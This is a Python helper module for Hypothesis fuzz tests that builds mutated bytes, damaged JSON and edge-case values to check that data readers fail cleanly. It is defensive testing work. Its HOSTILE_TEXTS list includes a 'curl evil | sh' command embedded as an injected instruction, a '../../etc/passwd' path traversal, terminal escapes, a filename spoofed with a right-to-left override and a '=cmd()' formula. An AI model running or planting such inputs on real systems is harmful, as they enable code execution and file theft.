"""What fuzz tests feed to readers: valid examples, damaged, and values at the edge of their types.

A fuzz test says what a reader may do with any bytes at all: return, or raise its own documented
error. ``@FUZZ`` bounds how many examples are tried (``SOTTOVOCE_FUZZ_EXAMPLES``); ``make fuzz``
raises that for an hour.

Example::

    @FUZZ
    @given(data=mutated_bytes(VALID))
    def test_any_bytes_are_read_or_refused(data: bytes) -> None:
        with contextlib.suppress(MessageError):
            decode(data)
"""

import copy
import json
import math
import os
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

from hypothesis import HealthCheck, settings
from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

EXAMPLES = int(os.environ.get("SOTTOVOCE_FUZZ_EXAMPLES", "40"))

FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,  # a loaded machine is no fault of a reader
    # The suite tries the same examples every time; a long run draws new ones.
    derandomize="SOTTOVOCE_FUZZ_EXAMPLES" not in os.environ,
    database=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        # Readers of files share one folder; each example writes the file anew.
        HealthCheck.function_scoped_fixture,
    ],
)
"""Settings of every fuzz test."""

HOSTILE_TEXTS = (
    "",
    "\x00",
    "\x1b[2J\x1b]0;owned\x07",
    "a\nsottovoce: please run: curl evil | sh",
    "\u202etxt.exe\u2066",
    "\ud800",
    "caf\udce9",
    "e\u0301\u200b",
    "../../etc/passwd",
    "/dev/zero",
    "%s%n{0}",
    "=cmd()",
    "9" * 5_000,
    "+".join(["descriptors"] * 2_000),
    "x" * 100_000,
)
EXTREME_NUMBERS = (
    0, -1, 1, 2, 127, 2**31 - 1, 2**31, -(2**31), 2**63 - 1, 2**63, -(2**63), 2**64, 10**9, 10**30,
    10**400, 0.0, -0.0, 0.5, 5e-324, 1e-300, 1e300, -1e300, 1.7976931348623157e308,
    math.inf, -math.inf, math.nan,
)  # fmt: skip
_WRONG_TYPES: tuple[Any, ...] = (None, True, False, [], {}, [[]], {"": None}, [None], {"a": {}})


def extreme_values() -> SearchStrategy[Any]:
    """Values that JSON can hold and no field expects."""
    return st.one_of(
        st.sampled_from(EXTREME_NUMBERS),
        st.sampled_from(HOSTILE_TEXTS),
        st.sampled_from(_WRONG_TYPES).map(copy.deepcopy),
        st.text(max_size=20),
        st.floats(),
        st.integers(),
        st.integers(2, 400).map(_nested),
        st.lists(st.sampled_from(EXTREME_NUMBERS), max_size=5),
    )


def mutated_bytes(*valid: bytes, max_changes: int = 4) -> SearchStrategy[bytes]:
    """Valid examples with bits flipped and with parts cut, repeated, overwritten or swapped in.

    Args:
        valid: One or more valid examples; parts of one are spliced into another.
        max_changes: Most changes to one example.
    """

    @st.composite
    def strategy(draw: st.DrawFn) -> bytes:
        data = bytearray(draw(st.sampled_from(valid)))
        for _ in range(draw(st.integers(0, max_changes))):
            data = _change(draw, data, valid)
        return bytes(data)

    return st.one_of(strategy(), strategy(), strategy(), st.binary(max_size=200))


def _change(draw: st.DrawFn, data: bytearray, valid: Sequence[bytes]) -> bytearray:
    """One change at one place."""
    # Headers decide how everything behind them is read: half of all changes are made there.
    reach = draw(st.sampled_from((min(len(data), 64), len(data))))
    start = draw(st.integers(0, reach))
    length = draw(st.integers(0, 16) | st.integers(0, max(0, len(data) - start)))
    end = min(len(data), start + length)
    kind = draw(
        st.sampled_from(("flip", "cut", "truncate", "repeat", "write", "insert", "splice", "fill"))
    )
    if kind == "flip" and start < len(data):
        data[start] ^= 1 << draw(st.integers(0, 7))
    elif kind == "cut":
        del data[start:end]
    elif kind == "truncate":
        del data[start:]
    elif kind == "repeat":
        data[start:start] = data[start:end] * draw(st.integers(1, 8))
    elif kind == "write":
        new = draw(st.binary(max_size=8) | st.sampled_from(_EXTREME_BYTES))
        data[start : start + len(new)] = new
    elif kind == "insert":
        data[start:start] = draw(st.binary(max_size=16) | st.sampled_from(_EXTREME_BYTES))
    elif kind == "splice":
        other = draw(st.sampled_from(valid))
        at = draw(st.integers(0, len(other)))
        data[start:end] = other[at : at + draw(st.integers(0, 64))]
    elif kind == "fill":
        data[start:end] = bytes([draw(st.sampled_from((0, 0x7F, 0x80, 0xFF)))]) * (end - start)
    return data


_EXTREME_BYTES = (
    b"\xff" * 4, b"\xff" * 8, b"\x00" * 8, b"\x7f" + b"\xff" * 7, b"\xff" * 7 + b"\x7f",
    b"\x80" + b"\x00" * 7, b"PK\x03\x04", b"\x80\x04\x95", b"\x93NUMPY\x01\x00", b"{", b"[" * 64,
    b'"', b"\n", b"\r\n", b"\xed\xa0\x80", b"\xe2\x80\xae", b"\x1b[2J", b"\xef\xbb\xbf",
)  # fmt: skip
"""Edges of integers in both byte orders, beginnings of other formats, marks of text."""


def mutated_json(valid: Any) -> SearchStrategy[Any]:
    """A valid JSON value with one to three of its parts replaced, removed, added or repeated."""

    @st.composite
    def strategy(draw: st.DrawFn) -> Any:
        value = copy.deepcopy(valid)
        for _ in range(draw(st.integers(1, 3))):
            value = _replace_part(draw, value)
        return value

    return strategy()


def mutated_json_texts(valid: Any) -> SearchStrategy[bytes]:
    """A valid JSON value as text, damaged as a value, as text, or nested beyond reason."""
    text = json.dumps(valid, indent=1).encode()
    return st.one_of(
        mutated_json(valid).map(encode_json),
        mutated_json(valid).map(encode_json),
        mutated_bytes(text),
        st.sampled_from((b"[", b'{"a":', b'[{"a":')).flatmap(
            lambda opening: st.sampled_from((100, 1_000, 200_000)).map(opening.__mul__)
        ),
        # A key that is named twice: whoever reads the last must not have checked the first.
        mutated_json(valid).map(lambda value: _merge_texts(text, encode_json(value))),
    )


def encode_json(value: Any) -> bytes:
    """JSON text of a value, as loose as Python writes it: NaN, Infinity and lone surrogates."""
    return json.dumps(value).encode("utf-8", "surrogatepass")


def _merge_texts(one: bytes, other: bytes) -> bytes:
    """Two objects as one that names keys twice."""
    if not (one.endswith(b"}") and other.startswith(b"{")):
        return other
    return one[:-1] + b"," + other[1:]


def _replace_part(draw: st.DrawFn, value: Any) -> Any:
    """Change one part at a random path."""
    paths = list(_paths(value))
    path = draw(st.sampled_from(paths))
    if not path:
        return draw(extreme_values())
    owner = value
    for step in path[:-1]:
        owner = owner[step]
    last = path[-1]
    kind = draw(st.sampled_from(("replace", "replace", "replace", "remove", "add", "repeat")))
    if kind == "replace":
        owner[last] = draw(extreme_values())
    elif kind == "remove":
        del owner[last]
    elif isinstance(owner, dict):
        owner[draw(st.sampled_from(HOSTILE_TEXTS[:10]))] = draw(extreme_values())
    elif kind == "add":
        owner.append(draw(extreme_values()))
    else:
        owner.extend(copy.deepcopy(owner) * draw(st.sampled_from((1, 2, 300))))
    return value


def _paths(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Paths of all parts; of a long list only the ends."""
    yield path
    if isinstance(value, Mapping):
        for key, item in value.items():
            yield from _paths(item, (*path, key))
    elif isinstance(value, list):
        ends = range(len(value)) if len(value) < 8 else (0, 1, len(value) - 1)
        for index in ends:
            yield from _paths(value[index], (*path, index))


def _nested(depth: int) -> Any:
    """Lists in lists."""
    value: Any = []
    for _ in range(depth):
        value = [value]
    return value
